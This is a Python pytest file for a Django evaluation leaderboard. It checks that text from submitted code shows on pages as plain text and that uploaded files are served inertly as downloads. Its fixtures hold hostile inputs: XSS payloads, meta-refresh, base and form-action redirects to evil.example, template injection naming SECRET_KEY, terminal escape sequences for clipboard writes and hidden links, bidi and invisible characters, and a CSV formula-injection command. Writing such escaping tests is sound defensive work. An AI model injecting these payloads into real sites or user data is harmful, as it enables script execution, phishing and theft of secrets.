"""Texts of submitted code on the real pages: shown as text, whatever they hold.

Each page is parsed as a browser does. There must be no element, attribute or address
that came from the text, and no character that hides or turns what is read.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone

from evaluator.models import AgentKind, Attempt, AttemptOutcome, Job, JobState, Stage
from leaderboard.models import CheckResult, TaskResult
from tests.factories import EvaluationSnapshotFactory
from tests.leaderboard.evaluations import evaluated, stored

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script in another script": "</script><script>alert(1)</script>",
    "end of the text element": "</pre></span><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single quotes": "' onfocus='alert(1)' autofocus='",
    "svg": "<svg/onload=alert(1)>",
    "address": '<a href="javascript:alert(1)">click</a>',
    "data address": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "style": "<style>*{display:none}</style>",
    "form": '<form action="//evil.example"><input name="csrfmiddlewaretoken">',
    "comment": "<!--",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entity": "&lt;script&gt;&#x3c;script&#62;",
    "template": "{{ settings.SECRET_KEY }}{% debug %}{% load static %}",
    "colors": "\x1b[31mBUILD SUCCESSFUL\x1b[0m",
    "cursor": "FAILED\x1b[1A\x1b[2KPASSED\r",
    "terminal title": "\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "device control": "\x1bP+q544e\x1b\\",
    "unended escape": "\x1b]0;never ended",
    "eight bits": "\x9b31mred\x9d0;title\x9c",
    "backspace": "FAILED\x08\x08\x08\x08\x08\x08PASSED",
    "bidi override": "\u202egnp.exe\u202c",
    "bidi isolate": "\u2066\u2069\u2067x\u2068",
    "invisible": "pass\u200b\u200c\u200d\u2060\ufeffword",
    "tags": "a\U000e0041\U000e0042",
    "line separators": "a\u2028b\u2029c",
    "nothing": "\x00\x00",
    "no text": b"\xff\xfe\xfd\x80<script>".decode("latin-1"),
    "private": "\ue000\U000f0000",
    "long": "x" * 300_000,
    "long with escapes": "\x1b[31m" * 60_000,
    "many unended": "\x1b]" * 60_000,
}
# Elements, and attributes that name an address or run something, of a page's own.
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "content",
    "style",
}


class Page(HTMLParser):
    """What a browser makes of a page: elements with their telling attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs) -> None:
        telling = (
            (name, value)
            for name, value in attrs
            if name in ADDRESSES or name.startswith("on")
        )
        self.elements.append((tag, tuple(telling)))

    def handle_data(self, data: str) -> None:
        self.text += data


def hidden(text: str) -> set[str]:
    return {
        f"U+{ord(each):04X}"
        for each in text
        if each not in "\n\t\r"
        and unicodedata.category(each) in {"Cc", "Cf", "Co", "Cs", "Zl", "Zp"}
    }


@pytest.fixture
def world(db):
    """A public evaluation of one task, and the places where a text may stand."""
    evaluation = evaluated(
        EvaluationSnapshotFactory(task_count=1), completed=((False,),)
    )
    run = evaluation.runs.get()
    task = evaluation.snapshot.tasks.get()
    Job.objects.create(
        evaluation=evaluation,
        run=run,
        task=task,
        agent=AgentKind.REPLAY,
        pool="build",
        state=JobState.SCORED,
        stage=Stage.CHECKS,
        available_at=timezone.now(),
    )
    return run, task


def fill(run, task, text: str) -> list[str]:
    """Put ``text`` wherever submitted code can put one; the pages that show it."""
    clean = text.replace("\x00", "\ufffd")
    TaskResult.objects.filter(run=run).update(detail=clean, flags=[clean])
    CheckResult.objects.filter(result__run=run).update(message=clean)
    Attempt.objects.update_or_create(
        job=run.jobs.get(),
        fence=1,
        defaults={
            "stage": Stage.CHECKS,
            "worker": "host:1",
            "started_at": timezone.now(),
            "ended_at": timezone.now(),
            "outcome": AttemptOutcome.MODEL,
            "reason": "check_failed",
            "detail": clean,
        },
    )
    content = text.encode("utf-8", "surrogatepass")
    for name in ("build_final.log", "final.patch", "checks/console.log", "checks.xml"):
        run.artifacts.filter(name=name).delete()
        stored(run, task, name, content)
    place = {"pk": run.evaluation_id, "number": run.number}
    task_run = reverse("task-run", kwargs={**place, "slug": task.slug})
    return [
        *(f"{task_run}?file={each.name}" for each in run.artifacts.all()),
        reverse("task-run-attempts", kwargs={**place, "slug": task.slug}),
        reverse("run", kwargs=place),
        reverse("evaluation", args=[run.evaluation_id]),
    ]


def pages(client, addresses: list[str]) -> list[tuple[str, str]]:
    found = []
    for address in addresses:
        answer = client.get(address)
        assert answer.status_code == 200, address
        assert "script-src 'self'" in answer["Content-Security-Policy"]
        found.append((address, answer.content.decode()))
    return found


@pytest.mark.parametrize("name", PAYLOADS)
def test_no_text_becomes_part_of_a_page(client, world, maintainer, name):
    client.force_login(maintainer)
    plain = pages(client, fill(*world, "plain text"))
    hostile = pages(client, fill(*world, PAYLOADS[name]))

    for (address, harmless), (_, html) in zip(plain, hostile, strict=True):
        expected = [each for each in Page(harmless).elements if each[0] != "br"]
        found = [each for each in Page(html).elements if each[0] != "br"]
        assert strange(found, expected) == [], address
        assert hidden(html) <= hidden(harmless), address
        assert len(html) < len(harmless) + 80_000, address


def strange(found: list, expected: list) -> list:
    """Elements that only the page with the text has; lines and digests may differ."""

    def telling(elements: list) -> set:
        return {
            (tag, re.sub(r"[0-9a-f]{64}|\d+", "N", str(attributes)))
            for tag, attributes in elements
        }

    return sorted(telling(found) - telling(expected))


@pytest.mark.parametrize(
    "name", ["script", "attribute", "svg", "entity", "template", "address"]
)
def test_markup_is_readable_as_what_it_is(client, world, name):
    (address, *_) = fill(*world, PAYLOADS[name])

    html = client.get(address).content.decode()

    assert Page(html).text.count(PAYLOADS[name]) >= 1
    assert PAYLOADS[name] not in html or not set(PAYLOADS[name]) & set("<>&\"'")


def test_a_log_shows_one_page_and_names_the_others(client, world):
    run, task = world
    stored(run, task, "build_final.log", b"line\n" * 5_000)
    place = {"pk": run.evaluation_id, "number": run.number, "slug": task.slug}

    html = client.get(reverse("task-run", kwargs=place)).content.decode()

    assert "4001–5000" in html
    assert html.count('class="line"') == 2_000


# --- downloads ------------------------------------------------------------

FILES = {
    "page.html": b"<!DOCTYPE html><script>alert(document.domain)</script>",
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
    "page.htm": b"<html>",
    "page.mht": b"MIME-Version: 1.0\nContent-Type: multipart/related",
    "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "picture.svgz": b"\x1f\x8b\x08",
    "report.xml": b'<?xml-stylesheet href="x.xsl"?><a/>',
    "sheet.xsl": b"<xsl:stylesheet/>",
    "paper.pdf": b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>",
    "code.js": b"alert(1)",
    "code.mjs": b"alert(1)",
    "code.wasm": b"\0asm",
    "look.css": b"*{display:none}",
    "movie.swf": b"CWS",
    "table.csv": b"=cmd|' /C calc'!A0",
    "build.log": b"<script>alert(1)</script>",
    "final.patch": b"<script>alert(1)</script>",
    "data.json": b'{"<script>": 1}',
    "shot.png": b"\x89PNG\r\n\x1a\n<script>",
    "shot.jpeg": b"\xff\xd8\xff<html>",
    "app.hap": b"PK\x03\x04",
    "feed.atom": b"<feed/>",
    "no-suffix": b"<html><script>alert(1)</script>",
    "double.html.log": b"<html>",
    "UPPER.HTML": b"<html>",
    "archive.zip": b"PK",
}


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("route", ["artifact", "api-artifact-file"])
def test_no_file_is_ever_served_as_something_that_runs(client, world, route, name):
    run, task = world
    artifact = stored(run, task, name, FILES[name])

    answer = client.get(reverse(route, args=[artifact.pk]))

    assert b"".join(answer) == FILES[name]
    assert answer["Content-Type"] in {
        "text/plain; charset=utf-8",
        "application/octet-stream",
    }
    assert answer["Content-Disposition"].startswith("attachment; filename=")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
    assert answer["X-Frame-Options"] == "DENY"
    assert "Set-Cookie" not in answer


def test_the_archive_of_a_run_is_served_the_same_way(client, world):
    run, task = world
    stored(run, task, "page.html", FILES["page.html"])

    answer = client.get(reverse("run-archive", args=[run.evaluation_id, run.number]))

    assert answer["Content-Type"] == "application/zip"
    assert answer["Content-Disposition"].startswith("attachment; filename=")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
